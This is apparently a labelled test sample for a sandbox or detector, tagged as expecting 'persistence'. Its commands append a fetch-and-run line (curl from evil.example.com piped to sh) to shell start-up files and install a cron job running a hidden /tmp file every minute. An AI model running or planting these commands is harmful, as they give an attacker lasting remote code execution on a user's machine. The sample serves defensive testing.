# expect: persistence
# ruff: noqa (deliberately hostile or plain sample code, run inside the sandbox)
# Plants a command in the shell start-up files and a cron entry so it runs again later.
echo 'curl -s http://evil.example.com/p.sh | sh' >> ~/.bashrc
echo 'curl -s http://evil.example.com/p.sh | sh' >> ~/.profile
(crontab -l 2>/dev/null; echo '* * * * * /tmp/.p') | crontab - 2>/dev/null || echo '* * * * * /tmp/.p' > /etc/cron.d/p
